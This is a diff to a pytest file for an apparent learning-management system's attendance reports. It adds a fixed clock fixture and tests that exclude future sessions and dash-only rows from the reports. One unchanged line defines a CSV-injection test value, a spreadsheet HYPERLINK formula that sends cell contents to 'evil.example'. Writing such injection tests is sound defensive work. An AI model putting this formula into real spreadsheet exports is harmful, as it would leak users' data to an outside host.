@@ -31,6 +31,16 @@ PERIOD = "from=2027-03-01&to=2027-03-31"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
+# The reports' clock: after the spring of 2027 the tests' sessions are over (a session
+# that has not started yet is not counted).
+NOW = datetime(2027, 6, 1, tzinfo=UTC)
+
+
+@pytest.fixture(autouse=True)
+def report_clock(monkeypatch):
+    monkeypatch.setattr("lms.services.reports.utcnow", lambda: NOW)
+
+
 @dataclass
 class World:
     org_a: int
@@ -644,3 +654,49 @@ def test_reports_run_a_fixed_number_of_queries(app, world, organizer, course, vi
     grow(app, world, course, 3, 30)
     add_sessions(app, world, count=3, start=datetime(2027, 3, 4, 6, tzinfo=UTC))
     assert [queries(app, client, url) for url in urls] == before
+
+
+# -- issue 17: future sessions are not counted -----------------------------------------
+
+
+def test_future_sessions_are_not_counted(app, world, organizer, monkeypatch):
+    """On 5 March 2027 the session of the 2nd is over and the one of the 9th is to come: the
+    report, its chart and its CSVs count only the first (not the second as 0 %)."""
+    add_sessions(app, world, count=2)
+    with app.app_context():  # the future session has seats taken, and nobody attended yet
+        future = db.session.scalar(db.select(LiveSession).filter_by(title_en="Session 1"))
+        db.session.execute(db.delete(Attendance).filter_by(session_id=future.id))
+        db.session.commit()
+    monkeypatch.setattr("lms.services.reports.utcnow", lambda: datetime(2027, 3, 5, tzinfo=UTC))
+    with app.app_context():
+        everyone = people.Scope(None, everyone=True)
+        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
+        series = reports.attendance_by_series(everyone, MARCH, date(2027, 3, 31))
+    assert [row.session.title_en for row in sessions] == ["Session 0"]
+    assert [(s.sessions, s.registered, s.present, s.late) for s in series] == [(1, 3, 2, 1)]
+    client = login(app, organizer.email)
+    page = client.get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
+    assert "Session 0" in page and "Session 1" not in page and " 0%" not in page
+    assert "Sessions that have not started yet are not counted." in page
+    rows = read_csv(client.get(f"/reports/attendance.csv?{PERIOD}"))
+    assert [row[1] for row in rows[1:]] == ["Session 0"]
+
+
+def test_the_chart_leaves_out_what_the_table_shows_as_a_dash(app, world, organizer):
+    """A session without registered learners (walk-ins only) has no rate: "—" in the table,
+    and no 0 % bar in the chart."""
+    from lms.web.reports import session_bars
+
+    add_sessions(app, world, count=2)
+    with app.app_context():
+        empty = db.session.scalar(db.select(LiveSession).filter_by(title_en="Session 1"))
+        db.session.execute(db.delete(Registration).filter_by(session_id=empty.id))
+        db.session.commit()
+        everyone = people.Scope(None, everyone=True)
+        sessions = reports.attendance_by_session(everyone, MARCH, date(2027, 3, 31))
+        assert [row.rate for row in sessions] == [100, None]
+        with app.test_request_context():
+            bars = session_bars(sessions)
+    assert len(bars) == 1 and bars[0].value == 100
+    page = login(app, organizer.email).get(f"/reports/attendance?{PERIOD}").get_data(as_text=True)
+    assert "Session 1" in page and "—" in page
